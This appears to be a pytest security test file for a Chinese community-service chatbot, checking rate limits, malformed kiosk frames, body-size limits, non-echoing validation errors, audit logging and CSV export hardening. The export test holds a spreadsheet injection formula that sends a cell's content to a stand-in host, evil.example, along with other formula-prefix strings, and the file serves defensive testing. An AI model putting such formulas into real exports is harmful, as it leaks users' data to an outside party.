"""The doors a stranger found, tried as a stranger would: each attempt fails for the stranger and
still works for the rightful caller right after. The engine here is a small real HTTP server that
answers like the engine's channels and counts what reaches it."""

import csv
import io
import json
import threading
from collections import Counter
from collections.abc import Iterator
from datetime import timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import create_engine, insert, select
from sqlalchemy.orm import Session, sessionmaker

from bot.api.body_limit import BodyLimit
from bot.api.limits import BUSY, ResidentLimits
from bot.config import get_settings
from bot.models import AuditEntry
from bot.ratelimit import Limiter, Limits, Rate
from bot.services import conversations
from tests.app.test_bookings import request_body, taxi_body


class FakeEngine(ThreadingHTTPServer):
    """POST /webhooks/<channel>/webhook → one reply naming the sender; senders starting with
    `web-busy` get the engine's own 429. `heard` counts the messages that reached it, per sender."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), EngineHandler)
        self.heard: Counter[str] = Counter()


class EngineHandler(BaseHTTPRequestHandler):
    server: FakeEngine

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        sender = body["sender"]
        self.server.heard[sender] += 1
        busy = sender.startswith("web-busy")
        data = json.dumps([{"text": BUSY if busy else f"好的 {sender}"}], ensure_ascii=False).encode()
        self.send_response(429 if busy else 200)
        if busy:
            self.send_header("Retry-After", "7")
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def engine(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeEngine]:
    server = FakeEngine()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    monkeypatch.setattr(get_settings(), "engine_url", f"http://127.0.0.1:{server.server_address[1]}")
    yield server
    server.shutdown()
    server.server_close()


def from_address(client: TestClient, host: str) -> TestClient:
    """Another client of the same running app, connecting from `host`."""
    other = TestClient(client.app, client=(host, 50000))
    other.headers.update(client.headers)
    return other


def say(client: TestClient, sender: str, text: str = "居委会几点开门") -> Any:
    return client.post("/chat/send", json={"sender": sender, "message": text})


# --- rate limits ------------------------------------------------------------------------------


def test_the_limiter_allows_a_burst_then_the_rate_and_forgets_idle_keys() -> None:
    limiter = Limiter(Rate(per_minute=6, burst=3))  # one every 10 s, three at once
    assert [limiter.take("a", now=0) for _ in range(3)] == [0, 0, 0]
    assert limiter.take("a", now=0) == pytest.approx(10)  # the fourth waits for one interval
    assert limiter.take("b", now=0) == 0  # another key is not affected
    assert limiter.take("a", now=10) == 0 and limiter.take("a", now=10) > 0  # one more per interval
    assert limiter.take("a", now=40) == 0 and len(limiter) == 1  # whole again: "b" forgotten
    small = Limiter(Rate(per_minute=1, burst=1), max_keys=100)
    for n in range(1000):  # a flood of new ids cannot grow the table past its bound
        small.take(f"id-{n}", now=0)
    assert len(small) == 100
    both = Limits(sender=Rate(60, 2), source=Rate(60, 3))
    assert [both.wait(sender="s1", source="ip", now=0) for _ in range(3)] == [0, 0, pytest.approx(1)]
    assert both.wait(sender="s2", source="ip", now=0) == 0  # the refused message used no source allowance
    assert both.wait(sender="s3", source="ip", now=0) > 0


def test_a_flooding_sender_is_refused_and_a_neighbour_is_still_answered(
    client: TestClient, engine: FakeEngine, clock: dict[str, Any]
) -> None:
    settings = get_settings()
    flooder, neighbour = "web-flood0001", "web-neighbour1"
    answered = [say(client, flooder).status_code for _ in range(settings.chat_sender_burst + 5)]
    assert answered == [200] * settings.chat_sender_burst + [429] * 5
    refused = say(client, flooder)
    assert refused.status_code == 429 and refused.json() == {"detail": BUSY}
    assert int(refused.headers["Retry-After"]) >= 1
    assert engine.heard[flooder] == settings.chat_sender_burst  # the refused never reached the engine
    reply = say(client, neighbour)  # same address (a family's Wi-Fi), another phone
    assert reply.status_code == 200 and reply.json() == [{"text": f"好的 {neighbour}"}]
    clock["now"] += timedelta(seconds=60 / settings.chat_sender_per_minute)
    assert say(client, flooder).status_code == 200  # a pause, and the flooder is a resident again


def test_one_address_with_ever_new_senders_is_refused_and_other_addresses_are_not(
    client: TestClient, engine: FakeEngine
) -> None:
    client.app.state.resident_limits = ResidentLimits(  # type: ignore[attr-defined]
        chat=Limits(sender=Rate(20, 10), source=Rate(60, 5)), kiosk=Limits(sender=Rate(20, 10), source=Rate(60, 5))
    )
    stranger, resident = from_address(client, "203.0.113.9"), from_address(client, "198.51.100.7")
    codes = [say(stranger, f"web-stranger{n:04d}").status_code for n in range(8)]
    assert codes == [200] * 5 + [429] * 3
    assert sum(engine.heard.values()) == 5
    assert say(resident, "web-resident01").status_code == 200


def test_the_engines_own_limit_reaches_the_resident_as_the_same_kind_sentence(
    client: TestClient, engine: FakeEngine
) -> None:
    busy = say(client, "web-busy0000001")  # the engine answers 429 for this one
    assert busy.status_code == 429 and busy.json() == {"detail": BUSY} and busy.headers["Retry-After"] == "7"
    assert say(client, "web-calm0000001").status_code == 200  # not "the assistant is away" (503)


def test_the_kiosk_refuses_a_flood_of_turns_kindly_and_keeps_the_socket(
    client: TestClient, engine: FakeEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.api.routes import kiosk

    monkeypatch.setattr(kiosk, "speaker", lambda: _Silent())
    burst = get_settings().kiosk_sender_burst
    with client.websocket_connect("/kiosk/ws") as ws:
        ws.send_json({"type": "hello", "kiosk_id": "lobby-1"})
        session = ws.receive_json()["session"]
        kinds = []
        for _ in range(burst + 2):
            ws.send_json({"type": "text", "text": "居委会几点开门"})
            kinds.append(answer(ws))
        assert [k["type"] for k in kinds] == ["reply"] * burst + ["busy"] * 2
        assert kinds[-1]["message"] == BUSY
        assert engine.heard[session] == burst
    with client.websocket_connect("/kiosk/ws") as ws:  # the next person at the same kiosk
        ws.send_json({"type": "hello", "kiosk_id": "lobby-1"})
        ws.receive_json()
        ws.send_json({"type": "text", "text": "居委会几点开门"})
        assert answer(ws)["type"] == "reply"


class _Silent:
    def speak(self, words: str, speed: str = "normal") -> bytes:
        return b"RIFF"  # no speech in these tests: the frame only


def answer(ws: Any) -> dict[str, Any]:
    """The socket's answer to a turn: its text frame (a reply is followed by its audio frame)."""
    message: dict[str, Any] = ws.receive_json()
    if message["type"] == "reply":
        assert ws.receive_bytes() == b"RIFF"
    return message


def test_messages_share_the_apps_one_engine_client(
    client: TestClient, engine: FakeEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    made: list[httpx.AsyncClient] = []
    real_init = httpx.AsyncClient.__init__

    def counting_init(self: httpx.AsyncClient, *args: Any, **kwargs: Any) -> None:
        made.append(self)
        real_init(self, *args, **kwargs)

    monkeypatch.setattr(httpx.AsyncClient, "__init__", counting_init)
    from bot.api.routes import kiosk

    monkeypatch.setattr(kiosk, "speaker", lambda: _Silent())
    for n in range(8):
        assert say(client, f"web-shared{n:04d}").status_code == 200
    with client.websocket_connect("/kiosk/ws") as ws:
        ws.send_json({"type": "text", "text": "居委会几点开门"})
        assert answer(ws)["type"] == "reply"
    assert made == []  # the one made when the app started serves every turn
    assert client.app.state.clients.engine.is_closed is False  # type: ignore[attr-defined]


# --- malformed kiosk frames -------------------------------------------------------------------


def test_a_malformed_kiosk_frame_is_refused_and_the_next_good_one_is_answered(
    client: TestClient, engine: FakeEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.api.routes import kiosk

    monkeypatch.setattr(kiosk, "speaker", lambda: _Silent())
    bad = [
        "[]", "1", "null", '"text"', "{}", "not json", '{"type": 5}', '{"type": "hello", "kiosk_id": [1]}',
        '{"type": "listen", "expect": 5}', '{"type": "listen", "expect": [{"title": {}}]}',
        '{"type": "text", "text": {"a": 1}}', '{"type": "listen", "number": "maybe"}',
    ]  # fmt: skip
    with client.websocket_connect("/kiosk/ws") as ws:
        for frame in bad:
            ws.send_text(frame)
            assert ws.receive_json() == {"type": "error", "message": "消息格式不对。"}, frame
        ws.send_json({"type": "dance"})
        assert ws.receive_json() == {"type": "error", "message": "不认识的消息。"}
        ws.send_json({"type": "hello", "kiosk_id": "lobby-1", "location": "党群服务站"})
        assert ws.receive_json()["type"] == "ready"
        ws.send_json({"type": "text", "text": "居委会几点开门"})
        reply = answer(ws)
        assert reply["type"] == "reply" and reply["messages"][0]["text"].startswith("好的 kiosk-")


# --- request bodies ---------------------------------------------------------------------------


def test_a_body_over_the_limit_is_refused_before_it_is_read(client: TestClient, engine: FakeEngine) -> None:
    limit = get_settings().max_body_bytes
    huge = json.dumps({"sender": "web-12345678", "message": "长" * limit})
    refused = client.post("/chat/send", content=huge, headers={"Content-Type": "application/json"})
    assert refused.status_code == 413 and "太大" in refused.json()["detail"]
    assert len(refused.content) < 200 and not engine.heard  # nothing echoed, nothing passed on

    def chunks() -> Iterator[bytes]:  # no Content-Length: Transfer-Encoding chunked
        yield b'{"sender": "web-12345678", "message": "'
        for _ in range(limit // 65536 + 2):
            yield b"x" * 65536
        yield b'"}'

    chunked = client.post("/api/handoffs", content=chunks(), headers={"Content-Type": "application/json"})
    assert chunked.status_code == 413
    assert say(client, "web-12345678").status_code == 200  # the rightful caller right after
    assert client.post("/api/handoffs", json={"sender_id": "resident-b", "message": "转人工"}).status_code == 201


async def test_a_chunked_body_is_cut_off_at_the_limit_and_the_rest_never_read() -> None:
    read: list[int] = []
    reached = False

    async def app(scope: Any, receive: Any, send: Any) -> None:
        nonlocal reached
        while (await receive()).get("more_body"):
            pass
        reached = True

    async def receive() -> dict[str, Any]:
        read.append(1)
        return {"type": "http.request", "body": b"x" * 1000, "more_body": len(read) < 1000}

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {"type": "http", "method": "POST", "path": "/api/handoffs", "headers": [], "query_string": b""}
    await BodyLimit(app, max_bytes=10_000)(scope, receive, send)
    assert not reached and len(read) == 11  # 11 000 bytes read of the 1 000 000 sent
    assert sent[0]["status"] == 413 and "太大".encode() in sent[1]["body"]


# --- validation errors ------------------------------------------------------------------------


def test_a_validation_error_names_the_fields_and_never_echoes_the_input(client: TestClient) -> None:
    marker = "SECRET-13812345678"
    wrong = client.post(
        "/api/handoffs", json={"sender_id": {"x": marker}, "message": [marker] * 1000, "message_id": marker * 10}
    )
    assert wrong.status_code == 422 and marker not in wrong.text and "13812345678" not in wrong.text
    fields = {tuple(e["loc"]) for e in wrong.json()["detail"]}
    assert ("body", "sender_id") in fields and ("body", "message_id") in fields
    assert all(set(e) == {"loc", "msg", "type"} for e in wrong.json()["detail"])
    resident = client.post("/chat/send", json={"sender": marker, "message": 5})
    assert resident.status_code == 422 and marker not in resident.text
    assert resident.json() == {"detail": "发送的对话编号、消息格式不对，请刷新页面再试。"}
    broken = client.post(
        "/chat/send", content=b'{"sender": "' + marker.encode(), headers={"Content-Type": "application/json"}
    )
    assert broken.status_code == 422 and marker not in broken.text
    ok = client.post("/api/handoffs", json={"sender_id": "resident-v", "message": "转人工"})
    assert ok.status_code == 201  # the rightful caller


# --- exports ----------------------------------------------------------------------------------


def test_export_cells_that_would_start_a_formula_are_neutralised(staff: TestClient) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点这里")'
    filed = staff.post(
        "/api/requests",
        json=request_body("csv-formula-1", description=formula, location="+5号楼"),
    )
    assert filed.status_code == 201, filed.text
    for prefix, pickup in (("-", "-2+3"), ("@", "@SUM(A1)"), ("\t", "\t=1"), ("\r", "\r=1")):
        booked = staff.post("/api/taxi-bookings", json=taxi_body(f"csv-taxi-{ord(prefix)}", pickup=pickup))
        assert booked.status_code in (200, 201), booked.text
    plain = staff.post("/api/requests", json=request_body("csv-plain-1", description="楼道里堆了纸箱"))
    assert plain.status_code == 201
    requests = list(csv.DictReader(io.StringIO(staff.get("/staff/export/requests.csv").text.lstrip("\ufeff"))))
    by_description = {r["情况"]: r for r in requests}
    assert "'" + formula in by_description and by_description["'" + formula]["地点"] == "'+5号楼"
    assert "楼道里堆了纸箱" in by_description  # ordinary text unchanged
    bookings = list(csv.DictReader(io.StringIO(staff.get("/staff/export/bookings.csv").text.lstrip("\ufeff"))))
    pickups = {b["地点"] for b in bookings if b["类型"] == "出租车"}
    assert {"'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1"} <= pickups
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in bookings for cell in row.values())


# --- audit of the JSON API --------------------------------------------------------------------


@pytest.fixture
def tracker(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Rasa's `events` table (the layout the staff console reads) with one conversation in it."""
    db = create_engine(f"sqlite:///{tmp_path / 'rasa_tracker.db'}")
    conversations.EVENTS.metadata.create_all(db)
    said = {
        "text": "我要叫车，电话13812345678，住5号楼602",
        "parse_data": {"intent": {"name": "book_taxi", "confidence": 0.9}},
    }
    with db.begin() as conn:
        conn.execute(
            insert(conversations.EVENTS),
            [{"sender_id": "resident-audit", "type_name": "user", "timestamp": 1.0e9, "data": json.dumps(said)}],
        )
    monkeypatch.setattr(conversations, "tracker_engine", lambda url=None: db)
    return db


def audit_rows(factory: sessionmaker[Session]) -> list[tuple[str, str, str, str]]:
    with factory() as session:
        return [
            (e.actor, e.action, e.object_kind, e.object_id)
            for e in session.scalars(select(AuditEntry).order_by(AuditEntry.id))
        ]


def test_reading_personal_data_through_the_staff_api_is_audited(
    staff: TestClient, accounts: sessionmaker[Session], tracker: Any
) -> None:
    stranger = from_address(staff, "203.0.113.5")
    stranger.cookies.clear()
    assert stranger.get("/api/staff/conversations/resident-audit").status_code == 401
    assert audit_rows(accounts) == []  # a refused stranger read nothing and left no row
    transcript = staff.get("/api/staff/conversations/resident-audit")
    assert transcript.status_code == 200 and "13812345678" in transcript.text
    assert staff.get("/api/staff/conversations").status_code == 200
    assert staff.get("/api/staff/corrections.yml").status_code == 200
    alert = staff.post("/api/alerts", json={"kind": "急病受伤", "sender_id": "resident-audit", "phone": "13812345678"})
    assert alert.status_code == 201, alert.text
    for _ in range(3):  # the alert bar polls every 5 seconds
        shown = staff.get("/api/staff/alerts").json()
        assert shown[0]["phone"] == "13812345678"
    assert audit_rows(accounts) == [
        ("admin", "view", "conversation", "resident-audit"),
        ("admin", "view", "conversation", "list"),
        ("admin", "export", "correction", ""),
        ("admin", "view", "alert", str(alert.json()["id"])),  # once, not once per poll
    ]


def test_every_loopback_address_is_one_source() -> None:
    """(An independent tester went round the per-address limits with a fresh 127.x.y.z each time.)"""
    from bot.ratelimit import source_of

    assert {source_of(a) for a in ("127.0.0.1", "127.0.5.2", "127.255.0.9", "::1", "::ffff:127.0.0.3")} == {"127.0.0.1"}
    assert source_of("203.0.113.7") == "203.0.113.7"
    assert source_of("2001:db8::1") == source_of("2001:db8::ffff") == "2001:db8::/64"
